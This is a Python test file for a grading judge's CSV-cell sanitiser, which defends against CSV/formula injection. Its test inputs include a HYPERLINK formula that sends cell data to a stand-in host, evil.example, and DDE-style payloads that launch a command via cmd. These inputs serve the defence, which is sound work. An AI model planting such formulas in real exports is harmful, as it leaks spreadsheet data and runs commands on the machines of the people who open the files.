"""judge/base/csvcells.py: no cell of a CSV file the judge writes is a formula (OWASP's CSV-injection rule)."""
from __future__ import annotations

import csv
import io
import re

import pytest

from judge.base import csvcells
from problemsets import REPO


@pytest.mark.parametrize("text", [
    '=HYPERLINK("https://evil.example/?"&A1,"grade").py',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "-cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "-1e5",       # a number to a spreadsheet, but not the plain numeral the judge writes
    "+1",
    "- 1",
])
def test_text_that_could_start_a_formula_is_quoted(text):
    shown = csvcells.cell(text)
    assert shown.startswith("'") and shown[1:2] in ("=", "+", "-", "@", "\\")
    assert "\t" not in shown and "\r" not in shown   # escaped: visible, never a hidden start


@pytest.mark.parametrize("value", [-1.5, -3, 0, 2.25, 10**20, True])
def test_numbers_the_judge_computed_are_written_as_numbers(value):
    assert csvcells.cell(value) is value


@pytest.mark.parametrize("text", ["-1.5", "-3", "0", "0.25", "12"])
def test_a_plain_numeral_written_as_text_stays_a_number(text):
    """The gradebook writes its points as numerals: a negative one must not become text in the LMS."""
    assert csvcells.cell(text) == text


def test_ordinary_text_none_and_non_finite_numbers():
    assert csvcells.cell("alice") == "alice" and csvcells.cell("a=b") == "a=b"
    assert csvcells.cell(None) == ""
    assert csvcells.cell("\x1b[31m=red") == "\\x1b[31m=red"    # escaped first, then looked at: no formula
    assert csvcells.cell(float("-inf")) == "'-inf" and csvcells.cell(float("nan")) == "nan"
    assert csvcells.cell("'=1") == "'=1"                        # quoted already: idempotent


def test_a_quoted_cell_reads_back_as_the_text_with_its_quote():
    out = io.StringIO()
    csv.writer(out).writerow(csvcells.row(['=HYPERLINK("x","y")', -1.5, "-1.5", "@a; b"]))
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=HYPERLINK(\"x\",\"y\")", "-1.5", "-1.5", "'@a; b"]
    assert csvcells.record({"a": "=1", "b": 2}) == {"a": "'=1", "b": 2}


def test_every_csv_writer_of_the_judge_goes_through_the_rule():
    """A new `csv.writer` or `DictWriter` in judge/ must pass its rows through judge.base.csvcells."""
    writers = []
    for path in sorted((REPO / "judge").rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(", text):
            writers.append(path.relative_to(REPO).as_posix())
            rows = re.findall(r"\.writerow\((.*)", text)
            assert rows, path
            for call in rows:
                assert call.startswith("csvcells."), (path, call)
    assert {"judge/judging/batch.py", "judge/service/gradebook.py", "judge/service/roster.py"} <= set(writers)
